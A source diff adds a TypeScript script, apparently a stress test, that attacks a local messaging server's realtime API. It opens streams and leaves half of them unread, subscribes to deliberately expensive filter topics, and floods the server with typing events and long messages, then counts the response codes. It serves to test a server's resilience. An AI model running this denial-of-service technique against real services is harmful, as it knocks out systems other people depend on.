@@ -1,0 +1,161 @@
+import { Agent, type IncomingMessage, request } from 'node:http';
+
+/** An attack on the live streams from one address, with knowledge of the source code. */
+export interface Attack {
+  readonly port: number;
+  readonly seconds: number;
+}
+
+/** The number of responses by kind of call and status. */
+export type AttackResult = Readonly<Record<string, Readonly<Record<number, number>>>>;
+
+interface Answer {
+  readonly status: number;
+  readonly cookie: string;
+  readonly body: string;
+}
+
+/** Number of concurrent calls of each kind. */
+const CONCURRENCY = 6;
+const MAX_BYTES = 8192;
+const MAX_TOPIC_LENGTH = 2500;
+const MAX_COMPARISONS = 200;
+/** A message that is as expensive to search as possible. */
+const longMessage = 'a'.repeat(2000);
+
+/**
+ * Opens streams, subscribes them to the most expensive topics, sends typing events and writes
+ * messages, as fast as responses arrive.
+ */
+export async function runAttack({ port, seconds }: Attack): Promise<AttackResult> {
+  const agent = new Agent({ keepAlive: true, maxSockets: 8 * CONCURRENCY });
+  const counts: Record<string, Record<number, number>> = {};
+  const ends = performance.now() + seconds * 1000;
+  const rooms: { id: string; cookie: string }[] = [];
+  const streams: { clientId: string; socket: IncomingMessage }[] = [];
+
+  async function call(kind: string, path: string, body: string, cookie = ''): Promise<Answer> {
+    const answer = await post(port, agent, path, body, cookie);
+    count(kind, answer.status);
+    return answer;
+  }
+  function count(kind: string, status: number): void {
+    const of = counts[kind] ?? {};
+    counts[kind] = of;
+    of[status] = (of[status] ?? 0) + 1;
+  }
+  const some = <T>(all: readonly T[]): T | undefined => all[Math.floor(Math.random() * all.length)];
+
+  const kinds: (() => Promise<unknown>)[] = [
+    async () => {
+      const answer = await call('room', '/api/collections/messages_room/records', JSON.stringify({ phone: '+639170000001', name: 'A' }));
+      if (answer.status === 200) rooms.push({ id: String(JSON.parse(answer.body).id), cookie: answer.cookie });
+    },
+    async () => {
+      const stream = await openStream(port);
+      count('stream', stream.status);
+      if (stream.clientId === '') return stream.socket.destroy();
+      // Every other stream stops reading.
+      if (streams.length % 2 === 0) stream.socket.pause();
+      streams.push(stream);
+      stream.socket.once('close', () => streams.splice(streams.indexOf(stream), 1));
+      await subscribe(stream.clientId);
+    },
+    async () => subscribe(some(streams)?.clientId ?? ''),
+    () => call('1,000 topics', '/api/realtime', subscriptionBody(some(streams)?.clientId ?? '', topicNames(1000))),
+    () =>
+      call(
+        '64 KB of topics',
+        '/api/realtime',
+        subscriptionBody(
+          some(streams)?.clientId ?? '',
+          topicNames(60).map((name) => name.padEnd(1000, 'x')),
+        ),
+      ),
+    async () => {
+      const room = some(rooms);
+      if (room) await call('typing', `/api/conversations/${room.id}/typing`, '{}', room.cookie);
+    },
+    async () => {
+      const room = some(rooms);
+      const body = JSON.stringify({ room: room?.id, text_message: longMessage });
+      if (room) await call('message', '/api/collections/messages/records', body, room.cookie);
+    },
+  ];
+
+  async function subscribe(clientId: string): Promise<void> {
+    const room = some(rooms);
+    await call('worst topics', '/api/realtime', subscriptionBody(clientId, worstTopics(room?.id ?? 'none')), room?.cookie);
+  }
+  async function again(job: () => Promise<unknown>): Promise<void> {
+    while (performance.now() < ends) {
+      await job().catch(() => count('broken off', 0));
+      // Yields, so that a loop without work does not block the others.
+      await new Promise((resolve) => setImmediate(resolve));
+    }
+  }
+  await Promise.all(kinds.flatMap((job) => Array.from({ length: CONCURRENCY }, () => again(job))));
+  for (const { socket } of streams) socket.destroy();
+  agent.destroy();
+  return counts;
+}
+
+const subscriptionBody = (clientId: string, subscriptions: readonly string[]): string => JSON.stringify({ clientId, subscriptions });
+const topicNames = (count: number): string[] => Array.from({ length: count }, (_, at) => `news/${at}`);
+
+/** The maximum number of filters that no other stream has, each expensive to evaluate. */
+function worstTopics(room: string): string[] {
+  const topics = [`typing_marks/${room}`, `messages_room/${room}`, 'messages/*?options={"query":{"expand":"room"}}'];
+  const word = (): string => `a${Math.random().toString(36).slice(2, 5)}`;
+  const long = `text_message~"%${'a'.repeat(900)}%_${'a'.repeat(900)}${word()}%"`;
+  topics.push(topicWithFilter('messages/*', long));
+  const used = topics.reduce((sum, topic) => sum + topic.length, 0);
+  for (let left = MAX_BYTES - used; left > 100; left = MAX_BYTES - topics.reduce((sum, topic) => sum + topic.length, 0)) {
+    const about = topics.length % 3 === 0 ? ['typing_marks/*', 'side'] : ['messages/*', 'text_message'];
+    topics.push(topicWithFilter(about[0] ?? '', manyComparisons(about[1] ?? '', Math.min(left, MAX_TOPIC_LENGTH) - 60, word)));
+  }
+  return topics;
+}
+
+const topicWithFilter = (name: string, filter: string): string => `${name}?options={"query":{"filter":${JSON.stringify(filter)}}}`;
+
+function manyComparisons(field: string, characters: number, word: () => string): string {
+  const comparisons: string[] = [];
+  for (let length = 0; length < characters - 30 && comparisons.length < MAX_COMPARISONS; ) {
+    const one = `${field}~'${word()}'`;
+    comparisons.push(one);
+    length += one.length + 2;
+  }
+  return comparisons.join('||');
+}
+
+function openStream(port: number): Promise<{ status: number; clientId: string; socket: IncomingMessage }> {
+  return new Promise((resolve, reject) => {
+    const asking = request({ port, host: '127.0.0.1', path: '/api/realtime', agent: false }, (socket) => {
+      const status = socket.statusCode ?? 0;
+      socket.setEncoding('latin1').on('error', () => undefined);
+      if (status !== 200) return resolve({ status, clientId: '', socket });
+      socket.once('data', (text: string) => {
+        socket.resume();
+        resolve({ status, clientId: /^id:(.*)$/m.exec(text)?.[1] ?? '', socket });
+      });
+    });
+    asking.once('error', reject).end();
+  });
+}
+
+function post(port: number, agent: Agent, path: string, body: string, cookie: string): Promise<Answer> {
+  return new Promise((resolve, reject) => {
+    const headers = { 'content-type': 'application/json', ...(cookie && { cookie }) };
+    const asking = request({ port, host: '127.0.0.1', path, method: 'POST', agent, headers }, (answer) => {
+      let text = '';
+      answer.setEncoding('utf8').on('data', (part: string) => {
+        text += part;
+      });
+      answer.once('error', reject).once('end', () => {
+        resolve({ status: answer.statusCode ?? 0, cookie: answer.headers['set-cookie']?.[0]?.split(';')[0] ?? '', body: text });
+      });
+    });
+    asking.once('error', reject).end(body);
+  });
+}
